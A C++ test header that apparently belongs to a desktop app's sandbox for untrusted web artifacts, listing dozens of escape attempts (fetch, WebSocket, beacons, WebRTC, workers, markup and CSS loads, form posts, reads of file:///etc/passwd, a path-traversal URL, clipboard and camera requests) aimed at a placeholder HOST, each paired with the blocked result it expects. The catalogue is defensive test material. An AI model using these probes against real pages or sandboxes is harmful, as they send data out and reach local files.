// SPDX-License-Identifier: MIT
// What a hostile artifact tries. HOST is a server that answers on this machine.
#pragma once

namespace atelier::test {

struct Escape
{
    const char* name;
    const char* attack; // the body of an async function
    const char* saw;    // what it returns, as the page sees it; alternatives between bars
    bool listed = true; // among the blocked requests
};

inline constexpr Escape kNetworkEscapes[] = {
    {"fetch", "return await fetch('http://HOST/')", "TypeError"},
    {"fetch without cors", "return await fetch('http://HOST/', {mode: 'no-cors'})", "TypeError"},
    {"fetch that outlives the page",
        "return await fetch('http://HOST/', {method: 'POST', body: 'x', keepalive: true})",
        "TypeError"},
    {"fetch of https", "return await fetch('https://HOST/')", "TypeError"},
    {"XMLHttpRequest",
        "const x = new XMLHttpRequest; x.open('GET', 'http://HOST/'); return await new Promise(r "
        "=> "
        "{ x.onload = () => r('loaded'); x.onerror = () => r('error'); x.send() })",
        "error"},
    {"XMLHttpRequest that waits",
        "const x = new XMLHttpRequest; x.open('GET', 'http://HOST/', false); x.send(); return "
        "x.status",
        "NetworkError"},
    {"WebSocket",
        "const w = new WebSocket('ws://HOST/'); return await new Promise(r => { w.onopen = () => "
        "r('open'); w.onerror = () => r('error') })",
        "error"},
    {"EventSource",
        "const s = new EventSource('http://HOST/'); return await new Promise(r => { s.onopen = () "
        "=> "
        "r('open'); s.onerror = () => r('error') })",
        "error"},
    {"beacon", "navigator.sendBeacon('http://HOST/', 'x'); return 'sent'", "sent"},
    {"beacon when it ends",
        "onpagehide = () => navigator.sendBeacon('http://HOST/', 'x'); dispatchEvent(new "
        "Event('pagehide')); return 'sent'",
        "sent"},
    {"WebRTC", "return typeof RTCPeerConnection", "undefined", false},
    {"WebRTC of a frame",
        "const f = document.createElement('iframe'); f.srcdoc = `<script>try { const c = new "
        "RTCPeerConnection({iceServers: [{urls: ['stun:HOST', 'turn:HOST?transport=tcp'], "
        "username: "
        "'a', credential: 'b'}]}); c.createDataChannel('x'); c.createOffer().then(o => "
        "c.setLocalDescription(o)); parent.postMessage('made', '*') } catch (e) { "
        "parent.postMessage(e.name, '*') }<\\/script>`; document.body.append(f); return await new "
        "Promise(r => onmessage = e => r(e.data))",
        "TypeError",
        false},
    // The browser's own, which the prelude has not taken away there: what is left are the locks of
    // the process.
    {"WebRTC of an empty frame",
        "const f = document.createElement('iframe'); document.body.append(f); const c = new "
        "f.contentWindow.RTCPeerConnection({iceServers: [{urls: ['stun:HOST', "
        "'turn:HOST?transport=tcp'"
        ", 'turn:HOST'], username: 'a', credential: 'b'}]}); c.createDataChannel('x'); await "
        "c.setLocalDescription(await c.createOffer()); await new Promise(r => c."
        "onicegatheringstatechange = () => c.iceGatheringState === 'complete' && r()); return "
        "'done'",
        "done",
        false},
    {"fetch of an empty frame",
        "const f = document.createElement('iframe'); document.body.append(f); return await "
        "f.contentWindow.fetch('http://HOST/')",
        "TypeError"},
    {"WebTransport of an empty frame",
        "const f = document.createElement('iframe'); document.body.append(f); return typeof "
        "f.contentWindow.WebTransport",
        "undefined",
        false},
    {"WebTransport", "return new WebTransport('https://HOST/')", "TypeError", false},
    {"worker that fetches",
        "const w = new Worker(URL.createObjectURL(new Blob([`fetch('http://HOST/').then(() => "
        "postMessage('loaded'), e => postMessage(e.name))`]))); return await new Promise(r => "
        "w.onmessage = e => r(e.data))",
        "TypeError"},
    {"worker that imports",
        "const w = new Worker('data:text/javascript,try{importScripts(\"http://HOST/\")}catch(e){"
        "postMessage(e.name)}'); return await new Promise(r => w.onmessage = e => r(e.data))",
        "NetworkError"},
    {"worker that is a module",
        "const w = new Worker('data:text/javascript,import(\"http://HOST/\").catch(e => "
        "postMessage(e.name))', {type: 'module'}); return await new Promise(r => w.onmessage = e "
        "=> "
        "r(e.data))",
        "TypeError"},
    {"worker with a socket",
        "const w = new Worker(URL.createObjectURL(new Blob([`const s = new "
        "WebSocket('ws://HOST/'); "
        "s.onopen = () => postMessage('open'); s.onerror = () => postMessage('error')`]))); return "
        "await new Promise(r => w.onmessage = e => r(e.data))",
        "error"},
    {"worker in a worker",
        "const w = new Worker(URL.createObjectURL(new Blob([`const v = new Worker(URL."
        "createObjectURL(new Blob(['fetch(\"http://HOST/\").catch(e => postMessage(e.name))']))); "
        "v.onmessage = e => postMessage(e.data)`]))); return await new Promise(r => { w.onmessage "
        "= e "
        "=> r(e.data); w.onerror = () => r('TypeError') })",
        "TypeError"},
    {"worker from the network",
        "const w = new Worker('http://HOST/x.js'); return await new Promise(r => w.onerror = () => "
        "r('error'))",
        "SecurityError",
        false},
    {"shared worker", "return new SharedWorker('data:text/javascript,')", "TypeError", false},
    {"service worker",
        "return await navigator.serviceWorker.register('/x.js')",
        "SecurityError|TypeError",
        false},
    {"audio worklet",
        "const c = new OfflineAudioContext(1, 1, 8000); return await "
        "c.audioWorklet.addModule('http://HOST/x.js')",
        "AbortError|TypeError",
        false},
    {"import()", "return await import('http://HOST/x.js')", "TypeError"},
    {"module with an import",
        "return await import('data:text/javascript,import \"http://HOST/x.js\"')",
        "TypeError"},
    {"WebAssembly from a stream",
        "return await WebAssembly.instantiateStreaming(fetch('http://HOST/x.wasm'))",
        "TypeError"},
    {"script that is added",
        "const s = document.createElement('script'); s.src = 'http://HOST/x.js'; "
        "document.head.append(s); return await new Promise(r => { s.onload = () => r('loaded'); "
        "s.onerror = () => r('error') })",
        "error"},
    {"script of an SVG",
        "const s = document.createElementNS('http://www.w3.org/2000/svg', 'script'); "
        "s.setAttribute('href', 'http://HOST/x.js'); const v = document.createElementNS("
        "'http://www.w3.org/2000/svg', 'svg'); v.append(s); document.body.append(v); return "
        "'added'",
        "added"},
    {"font face",
        "return await new FontFace('x', 'url(http://HOST/x.woff2)').load()",
        "NetworkError"},
    {"picture",
        "const i = new Image; i.src = 'http://HOST/x.png'; return await new Promise(r => { "
        "i.onload "
        "= () => r('loaded'); i.onerror = () => r('error') })",
        "error"},
    {"audio",
        "const a = new Audio('http://HOST/x.mp3'); return await new Promise(r => { a.oncanplay = "
        "() "
        "=> r('loaded'); a.onerror = () => r('error') })",
        "error"},
    {"style sheet object",
        "const s = new CSSStyleSheet; await s.replace('p{background:url(http://HOST/x.png)}'); "
        "document.adoptedStyleSheets = [s]; return 'added'",
        "added"},
    {"image of a canvas's pattern",
        "const i = new Image; i.crossOrigin = ''; i.src = 'http://HOST/x.png'; return await "
        "i.decode()",
        "EncodingError"},
    {"cache", "return await caches.open('x')", "SecurityError|ReferenceError", false},
    {"speculation rules",
        "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = "
        "'{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"http://HOST/x\"]}]}'; "
        "document.head.append(s); return 'added'",
        "added",
        false},
};

// Markup: the page sees nothing, and each must be listed.
inline constexpr Escape kElementEscapes[] = {
    {"link: style sheet", "<link rel=stylesheet href='http://HOST/x'>", ""},
    {"link: preload", "<link rel=preload as=image href='http://HOST/x'>", ""},
    {"link: module preload", "<link rel=modulepreload href='http://HOST/x'>", ""},
    {"link: prefetch", "<link rel=prefetch href='http://HOST/x'>", ""},
    {"link: prerender", "<link rel=prerender href='http://HOST/x'>", "", false},
    {"link: preconnect", "<link rel=preconnect href='http://HOST'>", "", false},
    {"link: name look-up", "<link rel=dns-prefetch href='//HOST'>", "", false},
    {"link: icon", "<link rel=icon href='http://HOST/x'>", "", false},
    {"link: manifest", "<link rel=manifest href='http://HOST/x'>", "", false},
    {"base", "<base href='http://HOST/'><img src=x.png>", ""},
    {"refresh", "<meta http-equiv=refresh content='0;http://HOST/x'>", "", false},
    {"script", "<script src='http://HOST/x'></script>", ""},
    {"import map",
        "<script type=importmap>{\"imports\":{\"x\":\"http://HOST/x\"}}</script><script "
        "type=module>import 'x'</script>",
        ""},
    {"image", "<img src='http://HOST/x'>", ""},
    {"image of a set", "<img srcset='http://HOST/x 1x, http://HOST/y 2x'>", ""},
    {"picture's source", "<picture><source srcset='http://HOST/x'><img></picture>", ""},
    {"image of an input", "<input type=image src='http://HOST/x'>", ""},
    {"background of the body", "<body background='http://HOST/x'>", ""},
    {"video", "<video src='http://HOST/x' autoplay></video>", ""},
    {"video's poster", "<video poster='http://HOST/x'></video>", ""},
    {"video's source", "<video autoplay><source src='http://HOST/x'></video>", ""},
    {"video's track",
        "<video><track default src='http://HOST/x'></video><script>document.querySelector("
        "'track').track.mode = 'showing'</script>",
        "",
        false},
    {"audio", "<audio src='http://HOST/x' autoplay></audio>", ""},
    {"frame", "<iframe src='http://HOST/x'></iframe>", ""},
    {"frame with its own markup", "<iframe srcdoc=\"<img src='http://HOST/x'>\"></iframe>", ""},
    {"frame of data", "<iframe src=\"data:text/html,<img src='http://HOST/x'>\"></iframe>", ""},
    {"frame of a script",
        "<iframe src=\"javascript:'<img src=http://HOST/x>'\"></iframe>",
        "",
        false},
    {"object", "<object data='http://HOST/x'></object>", ""},
    {"embed", "<embed src='http://HOST/x'>", "", false},
    {"PDF", "<embed type='application/pdf' src='http://HOST/x.pdf'>", ""},
    {"portal", "<portal src='http://HOST/x'></portal>", "", false},
    {"SVG: image", "<svg><image href='http://HOST/x'/></svg>", ""},
    {"SVG: use", "<svg><use href='http://HOST/x#y'/></svg>", "", false},
    {"SVG: filter's image",
        "<svg><filter id=f><feImage href='http://HOST/x'/></filter><rect width=9 height=9 "
        "filter='url(#f)'/></svg>",
        ""},
    {"SVG: foreign object",
        "<svg><foreignObject><img src='http://HOST/x'></foreignObject></svg>",
        ""},
    {"CSS: import", "<style>@import 'http://HOST/x';</style>", ""},
    {"CSS: background", "<style>p{background:url(http://HOST/x)}</style>", ""},
    {"CSS: font",
        "<style>@font-face{font-family:f;src:url(http://HOST/x)}p{font-family:f}</style>",
        ""},
    {"CSS: cursor", "<style>p{cursor:url(http://HOST/x),auto}</style>", ""},
    {"CSS: content", "<style>p::before{content:url(http://HOST/x)}</style>", ""},
    {"CSS: set of images",
        "<style>p{background:-webkit-image-set(url(http://HOST/x) 1x)}</style>",
        ""},
    {"CSS: mask", "<style>p{-webkit-mask-image:url(http://HOST/x)}</style>", ""},
    {"CSS: shape", "<style>p{float:left;shape-outside:url(http://HOST/x)}</style>", ""},
    {"CSS: in an attribute", "<p style='background:url(http://HOST/x)'>y</p>", ""},
};

// Ways out of the page, its box, and what belongs to the user.
inline constexpr Escape kOtherEscapes[] = {
    {"top navigation", "top.location = 'http://HOST/'; return 'set'", "set"},
    {"location", "location = 'http://HOST/'; return 'set'", "set"},
    {"location.replace", "location.replace('http://HOST/'); return 'set'", "set"},
    {"window", "return open('http://HOST/')", "null"},
    {"empty window", "return open('about:blank')", "null"},
    {"link to a window",
        "const a = document.createElement('a'); a.href = 'http://HOST/'; a.target = '_blank'; "
        "document.body.append(a); a.click(); return 'clicked'",
        "clicked"},
    {"link that reports",
        "const a = document.createElement('a'); a.href = '#x'; a.ping = 'http://HOST/'; "
        "document.body.append(a); a.click(); return 'clicked'",
        "clicked",
        false},
    {"form: GET",
        "const f = document.createElement('form'); f.action = 'http://HOST/'; "
        "document.body.append(f); f.submit(); return 'sent'",
        "sent"},
    {"form: POST",
        "const f = document.createElement('form'); f.action = 'http://HOST/'; f.method = 'post'; "
        "document.body.append(f); f.submit(); return 'sent'",
        "sent"},
    {"form: another window",
        "const f = document.createElement('form'); f.action = 'http://HOST/'; f.target = '_blank'; "
        "document.body.append(f); f.submit(); return 'sent'",
        "sent"},
    {"form: button's own address",
        "const f = document.createElement('form'); const b = document.createElement('button'); "
        "b.formAction = 'http://HOST/'; f.append(b); document.body.append(f); b.click(); return "
        "'sent'",
        "sent"},
    {"download",
        "const a = document.createElement('a'); a.href = 'data:application/octet-stream,x'; "
        "a.download = 'x.exe'; document.body.append(a); a.click(); return 'clicked'",
        "clicked"},
    {"download of a blob",
        "const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['x'])); "
        "a.download = 'x.sh'; document.body.append(a); a.click(); return 'clicked'",
        "clicked"},
    {"page of a blob",
        "location = URL.createObjectURL(new Blob(['<p>y'], {type: 'text/html'})); return 'set'",
        "set"},
    {"page of data", "location = 'data:text/html,<p>y'; return 'set'", "set", false},
    {"file", "location = 'file:///etc/passwd'; return 'set'", "set", false},
    {"file by request",
        "const x = new XMLHttpRequest; x.open('GET', 'file:///etc/passwd', false); x.send(); "
        "return "
        "x.responseText",
        "NetworkError",
        false},
    {"resource of the program",
        "const x = new XMLHttpRequest; x.open('GET', 'qrc:/atelier/web/transcript.html', false); "
        "x.send(); return x.responseText",
        "NetworkError"},
    {"page of the program",
        "const x = new XMLHttpRequest; x.open('GET', 'app://chat/transcript.html', false); "
        "x.send(); "
        "return x.responseText",
        "NetworkError"},
    {"another artifact",
        "const x = new XMLHttpRequest; x.open('GET', 'artifact://other/', false); x.send(); return "
        "x.responseText",
        "NetworkError"},
    {"library outside the library",
        "const x = new XMLHttpRequest; x.open('GET', "
        "'lib://cdn/%2e%2e/%2e%2e/atelier/web/code.js', "
        "false); x.send(); return x.responseText",
        "NetworkError",
        false},
    {"view-source", "location = 'view-source:http://HOST/'; return 'set'", "set", false},
    {"chrome", "location = 'chrome://gpu'; return 'set'", "set", false},
    {"devtools",
        "location = 'devtools://devtools/bundled/inspector.html'; return 'set'",
        "set",
        false},
    {"unknown scheme", "location = 'nobody-knows:x'; return 'set'", "set", false},
    {"telephone", "location = 'tel:1'; return 'set'", "set", false},
    {"history",
        "for (let i = 0; i < 500; ++i) history.pushState(i, ''); return history.length < 60",
        "true",
        false},
    {"history of another address",
        "history.pushState(1, '', 'http://HOST/'); return 'set'",
        "SecurityError",
        false},
    {"scheme handler",
        "navigator.registerProtocolHandler('web+x', 'https://HOST/%s'); return 'set'",
        "SecurityError|TypeError",
        false},
    {"storage of another",
        "return await new Promise((y, n) => { const r = indexedDB.open('x'); r.onsuccess = async "
        "() => "
        "y((await indexedDB.databases()).length + r.result.objectStoreNames.length); r.onerror = "
        "() => n(r.error) })",
        "1",
        false},
    {"file system of the page",
        "return await navigator.storage.getDirectory()",
        "SecurityError|TypeError",
        false},
    {"file dialog", "return await showOpenFilePicker()", "SecurityError|ReferenceError", false},
    {"file input",
        "const i = document.createElement('input'); i.type = 'file'; document.body.append(i); "
        "i.click(); return i.files.length",
        "0",
        false},
    {"clipboard: read", "return await navigator.clipboard.readText()", "NotAllowedError", false},
    {"clipboard: write",
        "return await navigator.clipboard.writeText('x')",
        "NotAllowedError",
        false},
    {"clipboard: command",
        "const t = document.createElement('textarea'); document.body.append(t); t.focus(); return "
        "document.execCommand('paste')",
        "false",
        false},
    {"notification",
        "return await Notification.requestPermission()",
        "denied|ReferenceError|TypeError",
        false},
    {"position",
        "return await new Promise(r => navigator.geolocation.getCurrentPosition(() => r('found'), "
        "e "
        "=> r(e.code)))",
        "1",
        false},
    {"camera",
        "return await navigator.mediaDevices.getUserMedia({video: true}).then(() => 1, () => "
        "'none')",
        "none|TypeError",
        false},
    {"microphone",
        "return await navigator.mediaDevices.getUserMedia({audio: true}).then(() => 1, () => "
        "'none')",
        "none|TypeError",
        false},
    {"screen",
        "return await navigator.mediaDevices.getDisplayMedia({video: true}).then(() => 1, () => "
        "'none')",
        "none|TypeError",
        false},
    {"MIDI",
        "return await navigator.requestMIDIAccess({sysex: true})",
        "SecurityError|TypeError|NotAllowedError",
        false},
    {"USB",
        "return await navigator.usb.requestDevice({filters: []})",
        "SecurityError|TypeError",
        false},
    {"full screen",
        "return await document.documentElement.requestFullscreen()",
        "TypeError",
        false},
    {"pointer lock",
        "document.body.requestPointerLock(); return await new Promise(r => { "
        "document.onpointerlockerror = () => r('error'); document.onpointerlockchange = () => "
        "r('locked') })",
        "error",
        false},
    {"print", "print(); return 'asked'", "asked", false},
    {"alerts", "for (let i = 0; i < 300; ++i) alert(i); return 'done'", "done", false},
    {"leaving question",
        "onbeforeunload = e => { e.preventDefault(); return e.returnValue = 'x' }; location = "
        "'http://HOST/'; return 'set'",
        "set"},
    {"bridge: channel", "return typeof qt", "undefined", false},
    {"bridge: extension", "return typeof chrome?.runtime", "undefined", false},
    {"parent", "return parent === window && top === window && opener === null", "true", false},
    {"cookie of a site",
        "document.cookie = 'a=1; domain=example.org'; return document.cookie",
        "a=1",
        false},
    {"name of the window", "return window.name", "", false},
};

} // namespace atelier::test
